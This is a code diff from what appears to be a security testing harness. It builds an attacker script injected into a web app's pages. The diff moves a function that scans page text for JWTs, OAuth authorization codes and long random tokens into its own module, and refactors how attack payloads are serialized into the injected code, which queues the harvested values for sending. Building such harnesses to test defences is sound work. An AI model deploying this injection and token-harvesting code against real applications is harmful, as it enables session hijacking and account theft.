@@ -1,4 +1,5 @@
 import type { Attack, Facts, Injected, Payload } from "./attack.js";
+import { candidatesIn } from "./secrets.js";
 
 declare global {
   /** The attacker's script in a page of the app. */
@@ -35,16 +36,17 @@ export function injectedScript(
   return `(() => {
     // esbuild wraps named functions in this helper. In the page it does nothing.
     const __name = (named) => named;
-    (${install.toString()})(${JSON.stringify(facts)}, {${payloads.join(",\n")}}, {${early.join(",\n")}}, ${PAYLOAD_TIME}, ${createsPolicy});
+    (${install.toString()})(${JSON.stringify(facts)}, {${payloads.join(",\n")}}, {${early.join(",\n")}}, ${PAYLOAD_TIME}, ${createsPolicy}, ${candidatesIn.toString()});
   })();`;
 }
 
-function entry(name: string, payload: Payload): string {
+/** The source of a payload as a member of an object, by the attack's name. */
+export function entry(name: string, payload: Payload): string {
   // The test runner replaces `import()` with a function of its own.
   const text = payload.toString().replaceAll("__vite_ssr_dynamic_import__(", "import(");
-  // A method's source is not an expression.
-  const method = /^(?:async\s+)?(hook|payload)\s*\(/.exec(text)?.[1];
-  return `${JSON.stringify(name)}: ${method ? `({ ${text} }).${method}` : text}`;
+  const key = JSON.stringify(name);
+  const method = /^(async\s+)?(?:hook|payload)(?=\s*\()/;
+  return method.test(text) ? text.replace(method, (_, async = "") => async + key) : `${key}: ${text}`;
 }
 
 /** Runs first in the page. It saves the globals it needs, so that hooks do not affect it. */
@@ -54,6 +56,7 @@ function install(
   hooks: Record<string, Payload>,
   payloadTime: number,
   createsPolicy: boolean,
+  candidatesIn: (text: string) => string[],
 ): void {
   const {
     fetch,
@@ -82,13 +85,6 @@ function install(
       waiting.push([name, candidate]);
     }
     if (waiting.length > 0) sending ??= pause(20).then(send);
-  };
-
-  /** Matches a JWT, an authorization code in a URL or in JSON, or a random value. */
-  const candidatesIn = (text: string): string[] => {
-    const tokens = text.match(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+|[\w-]{43,}/g) ?? [];
-    const codes = text.match(/\bcode(?:=|":")[\w-]+/g) ?? [];
-    return [...codes.map((code) => code.replace('":"', "=")), ...tokens];
   };
 
   /** If the page's policy forbids the request, navigates instead; with a 204 the page stays. */
